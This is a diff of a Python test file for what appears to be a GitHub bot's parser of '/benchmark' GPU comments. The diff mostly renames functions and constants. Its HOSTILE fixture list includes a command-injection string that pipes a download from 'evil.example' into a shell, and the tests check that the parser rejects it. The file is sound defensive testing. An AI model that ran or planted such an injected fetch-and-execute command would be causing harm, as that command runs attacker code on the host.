@@ -7,7 +7,7 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from assay.core.errors import BadInput
-from assay.github.grammar import AT_MOST, COMMAND, NAMES, is_meant, kinds, kinds_in
+from assay.github.request import COMMAND, GPU_TYPE_NAMES, MAX_GPU_TYPES, is_command, parse_comment, parse_gpu_types
 
 HOSTILE = [
     "/benchmark L4; curl https://evil.example | sh",
@@ -70,13 +70,13 @@ HOSTILE = [
     ],
 )
 def test_the_exact_line_names_kinds_of_gpu(comment: str, names: tuple[str, ...]) -> None:
-    assert kinds_in(comment, "H200") == names
+    assert parse_comment(comment, "H200") == names
 
 
 @pytest.mark.parametrize("comment", HOSTILE, ids=lambda text: ascii(text[:30]))
 def test_hostile_comments_never_pass(comment: str) -> None:
     with pytest.raises(BadInput) as said:
-        kinds_in(comment, "L4")
+        parse_comment(comment, "L4")
     assert len(str(said.value)) < 300
     assert str(said.value).isprintable()
 
@@ -91,31 +91,35 @@ def test_hostile_comments_never_pass(comment: str) -> None:
 )
 def test_whatever_passes_is_a_plain_line_of_known_names(comment: str) -> None:
     try:
-        names = kinds_in(comment, "L4")
+        names = parse_comment(comment, "L4")
     except BadInput:
         return
-    assert is_meant(comment)
-    assert 1 <= len(names) <= AT_MOST
-    assert set(names) <= NAMES
+    assert is_command(comment)
+    assert 1 <= len(names) <= MAX_GPU_TYPES
+    assert set(names) <= GPU_TYPE_NAMES
     assert comment in {COMMAND, f"{COMMAND} {comment.partition(' ')[2]}"}
-    assert set(comment.partition(" ")[2].split(",")) <= {*NAMES, ""}
+    assert set(comment.partition(" ")[2].split(",")) <= {*GPU_TYPE_NAMES, ""}
 
 
 @settings(max_examples=200, deadline=None, derandomize=True)
-@given(st.lists(st.sampled_from(sorted(NAMES)), min_size=1, max_size=AT_MOST), st.integers(0), st.characters())
+@given(
+    st.lists(st.sampled_from(sorted(GPU_TYPE_NAMES)), min_size=1, max_size=MAX_GPU_TYPES),
+    st.integers(0),
+    st.characters(),
+)
 def test_one_character_more_anywhere_is_too_much(names: list[str], place: int, more: str) -> None:
     comment = f"{COMMAND} {','.join(names)}"
-    assert set(kinds_in(comment, "L4")) == set(names)
+    assert set(parse_comment(comment, "L4")) == set(names)
     cut = place % (len(comment) + 1)
     try:
-        found = kinds_in(comment[:cut] + more + comment[cut:], "L4")
+        found = parse_comment(comment[:cut] + more + comment[cut:], "L4")
     except BadInput:
         return
-    assert set(found) <= NAMES
+    assert set(found) <= GPU_TYPE_NAMES
 
 
 def test_a_name_that_is_not_known_has_its_neighbours_told() -> None:
     with pytest.raises(BadInput, match=r"There is no GPU type l4\. Did you mean L4\?"):
-        kinds_in("/benchmark l4", "L4")
+        parse_comment("/benchmark l4", "L4")
     with pytest.raises(BadInput, match=r"There is no GPU type A1000\. Did you mean .*A100"):
-        kinds("A1000")
+        parse_gpu_types("A1000")
